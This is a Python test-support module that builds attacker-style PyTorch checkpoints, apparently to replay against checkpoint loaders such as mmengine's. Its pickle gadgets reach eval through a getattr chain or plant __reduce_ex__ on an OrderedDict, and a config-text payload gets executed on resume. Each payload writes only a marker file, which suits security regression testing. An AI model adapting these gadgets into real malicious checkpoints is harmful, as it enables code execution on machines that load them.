"""Checkpoints crafted as an attacker would, to replay against every tool that reads one.

Each payload creates ``marker`` (a file path) if it ever runs. Built only from what torch's
``weights_only`` unpickler admits: its defaults plus ``builtins.getattr`` and
``collections.OrderedDict`` as the allow-list for mmengine checkpoints once admitted them.
"""
import collections


class _Reduce:
    """Pickles as ``func(*args)`` (GLOBAL + REDUCE), optionally followed by BUILD ``state``."""

    def __init__(self, func, args, state=None):
        self.func, self.args, self.state = func, args, state

    def __reduce__(self):
        return (self.func, self.args) if self.state is None else (self.func, self.args,
                                                                   self.state)


def code(marker):
    return f"open({str(marker)!r}, 'w').write('pwned')"


def getattr_gadget(marker):
    """An OrderedDict whose BUILD state plants ``__reduce_ex__``: copy.deepcopy of it (mmengine
    deep-copies loaded state) calls ``eval(code)``. ``eval`` is reached as
    ``getattr(getattr(getattr, '__self__'), 'eval')``: the builtins module through getattr."""
    builtins_module = _Reduce(getattr, (getattr, '__self__'))
    evaluate = _Reduce(getattr, (builtins_module, 'eval'))
    table = {4: (evaluate, (code(marker),))}
    return _Reduce(collections.OrderedDict, (), {'__reduce_ex__': _Reduce(getattr, (table, 'get'))})


def ordered_dict_gadget(marker):
    """The same planted attribute without getattr: an OrderedDict carrying ``__reduce_ex__``."""
    return _Reduce(collections.OrderedDict, (), {'__reduce_ex__': code(marker)})


def config_text_payload(marker):
    """``meta['config']`` that mmengine's resume parses as a ``.py`` config, i.e. executes."""
    return f"import os\n{code(marker)}\nmodel = dict(type='x')\n"
